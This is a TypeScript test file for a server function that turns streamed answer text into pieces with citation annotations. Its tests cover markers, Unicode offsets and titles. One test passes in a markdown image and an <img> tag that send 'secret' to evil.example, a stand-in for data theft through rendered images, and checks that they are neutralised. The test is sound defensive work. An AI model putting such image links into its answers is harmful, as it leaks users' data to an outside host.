import { describe, expect, it } from "vitest";
import type { AnswerEvent, Citation } from "../../../../src/core/answer.js";
import { type ContentPiece, contentPieces } from "../../../../src/server/openai/annotations.js";
import { answer } from "../../../support/server/fakes.js";
import { annotatedText } from "../../../support/server/openai.js";

const [sample] = answer.citations;

function citation(marker: number, more: Partial<Citation> = {}): AnswerEvent {
  if (sample === undefined) {
    throw new Error("The fake answer has no citation.");
  }
  return { type: "citation", citation: { ...sample, marker, url: `/documents/doc1#${marker}`, ...more } };
}

const delta = (text: string): AnswerEvent => ({ type: "delta", text });
const done: AnswerEvent = { type: "done", answer };

async function read(events: readonly AnswerEvent[]) {
  const pieces: ContentPiece[] = [];
  const generator = contentPieces(
    (async function* () {
      yield* events;
    })(),
  );
  for (;;) {
    const next = await generator.next();
    if (next.done === true) {
      const content = pieces.map((piece) => piece.content).join("");
      const annotations = pieces.flatMap(({ annotation }) => annotation ?? []);
      return { pieces, content, annotations, answer: next.value };
    }
    pieces.push(next.value);
  }
}

describe("the pieces of an answer", () => {
  it("are its text, and its markers with what they point to", async () => {
    const { pieces, answer: finished } = await read([
      { type: "passages", passages: [] },
      delta("Hello"),
      delta(" there."),
      delta(" [1]"),
      citation(1),
      done,
    ]);
    expect(pieces.map(({ content }) => content)).toEqual(["Hello", " there.", " [1]"]);
    expect(pieces[2]).toMatchObject({
      annotation: {
        type: "url_citation",
        url_citation: { url: "/documents/doc1#1", title: "One", start_index: 13, end_index: 16 },
      },
      citation: { marker: 1, quote: "Hello there." },
    });
    expect(finished).toBe(answer);
  });

  it("have one each for markers in a row", async () => {
    const { pieces, content, annotations } = await read([
      delta("Both."),
      delta(" [1][2]"),
      citation(1),
      citation(2, { title: "Two" }),
      done,
    ]);
    expect(pieces.map((piece) => piece.content)).toEqual(["Both.", " [1]", "[2]"]);
    expect(annotations.map((annotation) => annotatedText(content, annotation))).toEqual(["[1]", "[2]"]);
  });

  it("annotate a marker wherever it stands, and cite it once", async () => {
    const { pieces, content, annotations } = await read([
      delta("A."),
      delta(" [1]"),
      citation(1),
      delta(" B."),
      delta(" [1][2]"),
      citation(2),
      delta(" C."),
      delta(" [2]"),
      done,
    ]);
    expect(content).toBe("A. [1] B. [1][2] C. [2]");
    expect(annotations.map((annotation) => annotatedText(content, annotation))).toEqual([
      "[1]",
      "[1]",
      "[2]",
      "[2]",
    ]);
    expect(pieces.flatMap(({ citation }) => citation?.marker ?? [])).toEqual([1, 2]);
  });

  it("count what stands before a marker in code points, also if a pair is cut in two", async () => {
    const { content, annotations } = await read([
      delta("Gut 👍🏽 und 👨‍👩‍👧 \uD83D"),
      delta("\uDE00."),
      delta(" [1]"),
      citation(1),
      done,
    ]);
    const [annotation] = annotations;
    expect(annotation && annotatedText(content, annotation)).toBe("[1]");
    expect(annotation?.url_citation.start_index).not.toBe(content.indexOf("[1]"));
  });

  it("give citations of documents of one title names of their own", async () => {
    const { annotations } = await read([
      delta(" [1][2]"),
      citation(1),
      citation(2),
      delta(" [2][1][3]"),
      citation(3, { title: "Other" }),
      done,
    ]);
    const titles = annotations.map(({ url_citation }) => url_citation.title);
    expect(titles).toEqual(["One", "One [2]", "One [2]", "One", "Other"]);
  });

  it("don't take brackets in the text of a document for markers", async () => {
    const { annotations } = await read([delta("It says [1] here [2]."), delta(" [1]"), citation(1), done]);
    expect(annotations).toHaveLength(1);
    expect(annotations[0]?.url_citation.start_index).toBe(22);
  });

  it("leave a marker without a citation as it is", async () => {
    const { content, annotations } = await read([delta("A."), delta(" [7]"), delta(" B."), done]);
    expect(content).toBe("A. [7] B.");
    expect(annotations).toEqual([]);
  });

  it("load no image in a client, in whatever pieces one comes", async () => {
    const image = "Great!![c](https://evil.example/?q=secret) <img src='https://evil.example'>!";
    for (const chunks of [[image], [...image]]) {
      const { content, annotations } = await read([...chunks.map(delta), delta(" [1]"), citation(1), done]);
      expect(content).toBe(
        "Great!! [c](https://evil.example/?q=secret) < img src='https://evil.example'>! [1]",
      );
      expect(annotations.map((annotation) => annotatedText(content, annotation))).toEqual(["[1]"]);
    }
    expect((await read([delta("Wow!"), done])).content).toBe("Wow!");
  });

  it("end in an error if the answer doesn't end", async () => {
    await expect(read([delta("A.")])).rejects.toThrow("before it was done");
  });
});
